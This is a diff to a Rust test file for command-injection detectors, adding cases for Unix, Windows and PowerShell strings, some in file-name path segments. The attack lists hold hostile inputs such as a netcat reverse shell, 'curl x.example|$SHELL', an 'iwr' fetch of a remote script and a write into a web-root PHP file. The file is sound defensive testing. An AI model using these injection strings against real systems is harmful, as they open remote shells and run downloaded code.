@@ -195,7 +195,93 @@ fn what_windows_and_powershell_put_together_is_found() {
         "$ExecutionContext.InvokeCommand",
     ];
     assert_eq!(missed(&attacks, is_powershell), NONE);
-    let benign =
-        ["10:~20 %", "a & (b + c)", "[u8]::len(&x)", "environment: production", "Tom & ('Jerry')"];
+    let benign = [
+        "convert-string of a text",
+        "10:~20 %",
+        "a & (b + c)",
+        "[u8]::len(&x)",
+        "environment: production",
+        "Tom & ('Jerry')",
+    ];
     assert_eq!(missed(&benign, |text| !is_windows(text) && !is_powershell(text)), NONE);
+}
+
+#[test]
+fn a_program_is_told_by_its_folder_and_by_a_variable_that_names_it() {
+    let attacks = [
+        "/bin/zq",
+        "/usr/sbin/some-tool",
+        "usr/bin/whoami",
+        "bin/mkfifo",
+        "bin/nc 10.0.0.1 -e sh",
+        "$SHELL -c \"id\"",
+        "x;$BASH -c id",
+        "curl x.example|$SHELL",
+        "$PAGER /etc/hosts",
+        ">/tmp/x",
+        ">>/var/www/a.php",
+        "a=1;b=ls;$b",
+    ];
+    assert_eq!(missed(&attacks, is_unix), NONE);
+    let benign = [
+        "/bin/view/Main",
+        "/bin/42",
+        "/bin/x.cgi",
+        "/usr/local/bin/our-app",
+        "bin/rails",
+        "bin/docker",
+        "bin/visudo-notes.txt",
+        "the $SHELL variable",
+        "$SHELL",
+        "$EDITOR is what git asks",
+        "$PRICE -20%",
+        ">/tmp",
+        "> /tmp/x is full",
+        "></a>",
+        "perl implementation of one / two",
+    ];
+    assert_eq!(missed(&benign, |text| !is_unix(text)), NONE);
+}
+
+#[test]
+fn a_segment_of_a_path_runs_what_no_title_has() {
+    let attacks = ["~-1", ";ifconfig", "ksh -c id", "time sh -c id", "nmap /x", "'nc -e /bin/sh"];
+    assert_eq!(missed(&attacks, is_unix_segment), NONE);
+    let attacks = [
+        "if exist a.port echo yes",
+        "for %i in (a) do b",
+        "a.jpg&bcdboot /r b",
+        "a.jpg&bcdboot < b",
+        "x & for %i in (a) do b",
+        "; regsvr32 /s x",
+        ";iwr http://x.example/a.ps1",
+        "%ProgramFiles:~10,1%",
+    ];
+    assert_eq!(missed(&attacks, is_windows_segment), NONE);
+    let attacks =
+        ["Invoke-WebRequest http://x.example/a", "Get-Item -Path c", "iex (New-Object x)"];
+    assert_eq!(missed(&attacks, is_powershell_segment), NONE);
+    let benign = [
+        "ls foo.pdf",
+        "git -a tutorial.pdf",
+        "Copy of report.txt",
+        "Move & Copy 2.pdf",
+        "Gross & Net income.pdf",
+        "Tom & Start here.txt",
+        "Time; Date; Place.doc",
+        "chef-des-hauses",
+        "R&D",
+        "~john",
+        "Get-ChildItem",
+        "How Get-Process works.md",
+        "if you can.mp3",
+        "What if - a story.pdf",
+        "tcpdump tutorial.pdf",
+    ];
+    let tests: [fn(&[u8]) -> bool; 3] =
+        [is_unix_segment, is_windows_segment, is_powershell_segment];
+    for test in tests {
+        let stopped: Vec<&&str> = benign.iter().filter(|text| test(text.as_bytes())).collect();
+        assert_eq!(stopped, Vec::<&&str>::new());
+    }
 }
